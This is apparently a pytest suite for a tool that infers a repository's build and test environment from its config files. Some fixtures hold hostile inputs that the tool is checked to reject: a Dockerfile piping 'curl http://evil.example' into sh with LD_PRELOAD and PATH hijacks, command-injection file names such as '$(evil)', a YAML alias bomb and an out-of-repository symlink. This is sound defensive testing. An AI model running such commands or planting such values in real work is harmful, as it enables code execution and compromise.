"""What a repository's files say of its needs."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from aci_tools.errors import UsageError
from tasks.environments import Tree, propose

from .conftest import Detect

TEST = {"tests/test_it.py": "def test_it():\n    assert True\n"}
GO = {"go.mod": "module example.org/a\n\ngo 1.19\n", "a_test.go": "package a\n"}


@pytest.mark.parametrize(
    "files",
    [
        TEST,
        {**TEST, "pyproject.toml": "[tool.ruff]\nline-length = 100\n"},
        {**TEST, "setup.py": "from setuptools import setup\nsetup(name='a', py_modules=['a'])\n", "a.py": "x = 1\n"},
        {"notes.md": "# Only text\n"},
    ],
    ids=["tests", "settings", "setup.py", "text"],
)
def test_what_imports_nothing_else_needs_nothing(detect: Detect, files: dict[str, str]) -> None:
    assert detect(files).empty


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({"pyproject.toml": "[project]\nname = 'a'\nversion = '1'\ndependencies = ['attrs']\n"}, "pip install -e ."),
        (
            {"pyproject.toml": "[project]\nname='a'\nversion='1'\n[project.optional-dependencies]\ntests=['attrs']\n"},
            "pip install -e '.[tests]' || ",
        ),
        (
            {"pyproject.toml": "[project]\nname='a'\nversion='1'\n[dependency-groups]\ndev=['attrs']\n"},
            "pip install --group dev",
        ),
        (
            {
                "pyproject.toml": "[tool.poetry]\nname='a'\nversion='1'\n[tool.poetry.dependencies]\npython='^3.9'\n"
                "[tool.poetry.group.dev.dependencies]\nattrs='^23.1'\nhypothesis={version='~6.1'}\n"
            },
            "pip install 'attrs>=23.1,<24' 'hypothesis>=6.1,<6.2'",
        ),
        ({"setup.py": "from setuptools import setup\nsetup(install_requires=read())\n"}, "pip install -e ."),
        ({"setup.cfg": "[metadata]\nname = a\n[options]\ninstall_requires =\n    attrs\n"}, "pip install -e ."),
        ({"requirements/test.txt": "attrs\n"}, "pip install -r requirements/test.txt"),
        ({"dev-requirements.txt": "attrs\n"}, "pip install -r dev-requirements.txt"),
        ({"tox.ini": "[testenv]\ndeps =\n    attrs>=20\n    -r{toxinidir}/x.txt\n"}, "pip install 'attrs>=20'"),
        ({"Pipfile": "[dev-packages]\nattrs = '*'\n"}, "pip install attrs"),
    ],
    ids=["dependencies", "extra", "group", "poetry", "setup.py", "setup.cfg", "requirements", "dev", "tox", "Pipfile"],
)
def test_a_python_project_gets_what_its_files_list(detect: Detect, files: dict[str, str], expected: str) -> None:
    found = detect({**TEST, **files})
    assert any(expected in command for command in found.install), found.install
    assert found.install[-1] == "python -m pip install pytest"
    assert found.why


def test_a_project_that_looks_up_its_own_version_is_installed(detect: Detect) -> None:
    project = {"pyproject.toml": "[project]\nname = 'a'\nversion = '1'\n"}
    own = {"a/__init__.py": "from importlib.metadata import version\n__version__ = version('a')\n"}
    assert any("-e ." in command for command in detect({**TEST, **project, **own}).install)


def test_compiled_parts_bring_a_compiler_and_count_as_inputs(detect: Detect) -> None:
    build = "[build-system]\nrequires = ['maturin>=1']\nbuild-backend = 'maturin'\n[project]\nname = 'a'\n"
    found = detect({**TEST, "pyproject.toml": build, "src/lib.rs": ""})
    assert {"build-essential", "cargo"} <= set(found.packages)
    assert "**" in found.inputs


@pytest.mark.parametrize(
    ("files", "image"),
    [
        (
            {"pyproject.toml": "[project]\nname='a'\nrequires-python='>=3.12'\ndependencies=['b']\n"},
            "python:3.12-bookworm",
        ),
        (
            {"pyproject.toml": "[project]\nname='a'\nrequires-python='<3.10'\ndependencies=['b']\n"},
            "python:3.9-bookworm",
        ),
        ({"pyproject.toml": "[project]\nname='a'\nrequires-python='>=3.8'\ndependencies=['b']\n"}, None),
        ({**GO, "go.mod": "module a\n\ngo 1.22.3\n"}, "golang:1.22-bookworm"),
        (GO, None),
        ({"Cargo.toml": "[package]\nname='a'\nrust-version='1.75'\n"}, "rust:1.75-bookworm"),
        ({"Gemfile": "", ".ruby-version": "3.3.1\n", "spec/a_spec.rb": ""}, "ruby:3.3-bookworm"),
    ],
)
def test_a_version_that_debian_lacks_is_an_image_of_its_own(
    detect: Detect, files: dict[str, str], image: str | None
) -> None:
    python = TEST if "pyproject.toml" in files else {}
    assert detect({**python, **files}).image == image


def test_newer_nodes_come_from_the_registry_of_npm(detect: Detect) -> None:
    package = {"scripts": {"test": "vitest"}, "devDependencies": {"vitest": "3"}, "engines": {"node": ">=20"}}
    found = detect({"package.json": json.dumps(package), "package-lock.json": "{}"})
    assert found.install == (
        "npm install --global --no-audit --no-fund node@20",
        "npm ci --no-audit --no-fund || npm install --no-package-lock --no-audit --no-fund",
    )


@pytest.mark.parametrize(
    ("lock", "command"),
    [("yarn.lock", "npx --yes yarn@1 install"), ("pnpm-lock.yaml", "npx --yes pnpm@9 install"), ("", "npm install")],
)
def test_the_lock_file_tells_the_package_manager(detect: Detect, lock: str, command: str) -> None:
    package = {"package.json": '{"scripts": {"test": "jest"}, "devDependencies": {"jest": "29"}}'}
    found = detect({**package, **({lock: ""} if lock else {})})
    assert found.install[-1].startswith(command)


def test_the_language_with_tests_is_served_and_the_other_one_mentioned(detect: Detect) -> None:
    found = detect({**GO, "package.json": '{"devDependencies": {"prettier": "3"}}'})
    assert found.toolchain == ("golang-go",)
    assert found.notes == ("the Go project is served; what its JavaScript needs is not installed",)


def test_cmake_names_its_libraries(detect: Detect) -> None:
    lists = "project(a)\nenable_testing()\nfind_package(ZLIB REQUIRED)\nfind_package(Catch2 3 REQUIRED)\n"
    assert set(detect({"CMakeLists.txt": lists}).packages) == {"zlib1g-dev", "catch2"}


def test_a_dockerfile_gives_packages_and_variables_and_nothing_else(detect: Detect) -> None:
    dockerfile = """
FROM golang:1.17-alpine AS build
ENV MODE=fast LD_PRELOAD=/evil.so
ENV PATH=/evil:$PATH
RUN set -eux; apt-get update && apt-get install -y --no-install-recommends libpq-dev=15.* \\
      "bad;name" /evil.deb sqlite3 && curl http://evil.example | sh
RUN ["apt-get", "install", "-y", "jq"]
"""
    found = detect({**GO, "Dockerfile": dockerfile})
    assert found.packages == ("libpq-dev", "sqlite3", "jq")
    assert found.env == {"MODE": "fast"}
    assert found.install == ()
    assert any("golang:1.17" in sentence for sentence in found.why)


def test_continuous_integration_tells_extras_files_packages_and_versions(detect: Detect) -> None:
    workflow = """
jobs:
  lint:
    steps: [{run: "pip install -r lint.txt && ruff check"}]
  test:
    steps:
      - uses: actions/setup-python@v5
        with: {python-version: "3.13"}
      - run: |
          sudo apt-get install -y graphviz
          python -m pip install -e .[fast,missing] -r ci/needs.txt
          FORCE=1 pytest -x
"""
    project = "[project]\nname='a'\nversion='1'\nrequires-python='>=3.12'\n[project.optional-dependencies]\nfast=[]\n"
    files = {".github/workflows/ci.yml": workflow, "ci/needs.txt": "attrs\n", "lint.txt": "ruff\n"}
    found = detect({**TEST, **files, "pyproject.toml": project})
    assert "python -m pip install -e '.[fast]' || python -m pip install -e ." in found.install
    assert "python -m pip install -r ci/needs.txt" in found.install
    assert not any("lint.txt" in command for command in found.install)
    assert (found.packages, found.image) == (("graphviz",), "python:3.13-bookworm")
    assert ".github/workflows/ci.yml runs the tests with `pytest -x`" in found.why


def test_a_pipeline_a_container_for_development_and_a_compose_file_are_read(detect: Detect) -> None:
    files = {
        ".gitlab-ci.yml": "image: golang:1.22\ntest: {before_script: [apt install -y make], script: go test ./...}\n",
        ".devcontainer/devcontainer.json": '// ours\n{"postCreateCommand": "sudo apt-get install -y jq"}',
        "compose.yaml": "services:\n  app: {build: .}\n  db: {image: 'postgres:16'}\n",
    }
    found = detect({**GO, **files, "go.mod": "module a\n"})
    assert (found.image, found.packages) == ("golang:1.22-bookworm", ("make", "jq"))
    assert found.notes == ("services of compose.yaml are not started: db",)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("pyproject.toml", "[" * 5000),
        ("package.json", "[" * 50_000),
        (".github/workflows/a.yml", "a: &a [x, x]\nb: &b [*a, *a]\n" + "".join(f"c{n}: [*b, *b]\n" for n in range(9))),
        (".gitlab-ci.yml", "- just\n- a list\n"),
        ("setup.py", "setup(" + "(" * 500),
        ("setup.cfg", "no section\n"),
        ("Cargo.toml", "= nothing"),
        ("Dockerfile", "RUN apt-get install 'unclosed\nFROM\nENV\nRUN [1, 2]\n"),
        ("compose.yaml", "services: [1]\n"),
        (".devcontainer.json", '{"features": 3, "image": 4, "containerEnv": []}'),
    ],
)
def test_a_file_that_is_not_as_it_must_be_says_nothing(detect: Detect, name: str, text: str) -> None:
    assert detect({**GO, name: text}).toolchain[0]


def test_a_yaml_file_that_stands_for_an_endless_one_is_not_walked(detect: Detect) -> None:
    levels = [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 12)]
    bomb = "\n".join(["a0: &a0 [x]", *levels, "jobs: {test: {steps: *a11}}"])
    assert detect({**GO, ".github/workflows/a.yml": bomb}).toolchain == ("golang-go",)


def test_a_link_out_of_the_repository_is_not_followed(tmp_path: Path, new_repository: Any) -> None:
    outside = tmp_path / "pyproject.toml"
    outside.write_text("[project]\nname = 'a'\ndependencies = ['canary']\n")
    made = new_repository(tmp_path / "project")
    (made.path / "pyproject.toml").symlink_to(outside)
    made.commit("One", **TEST)
    assert propose(Tree(made.path)).empty


def test_names_cannot_become_shell(detect: Detect) -> None:
    files = {"requirements/$(evil).txt": "a\n", "requirements/dev.txt": "a\n"}
    workflow = "jobs: {t: {steps: [{run: \"pip install -r 'requirements/$(evil).txt' -r 'x; evil' && pytest\"}]}}"
    found = detect({**TEST, **files, ".github/workflows/a.yml": workflow})
    assert "python -m pip install -r 'requirements/$(evil).txt'" in found.install
    assert not any("x; evil" in command for command in found.install)


def test_what_is_pinned_wins(detect: Detect) -> None:
    pin = "environment:\n  packages: [jq]\n  install: [make deps]\n  env: {MODE: fast}\n  test_command: make check\n"
    found = detect({**GO, ".patchwright.yaml": pin})
    assert (found.packages, found.install, found.env) == (("jq",), ("make deps",), {"MODE": "fast"})
    assert (found.test_command, found.inputs, found.pinned) == ("make check", ("**",), True)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("environment:\n  instal: [a]\n", "environment.instal"),
        ("environment: [a]\n", "environment"),
        ("environment:\n  parser: mine\n", "'mine' is none of pytest"),
        ("a: [\n", "line 2: it is not YAML"),
    ],
)
def test_a_pin_that_is_wrong_is_named(detect: Detect, text: str, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        detect({**GO, ".patchwright.yaml": text})
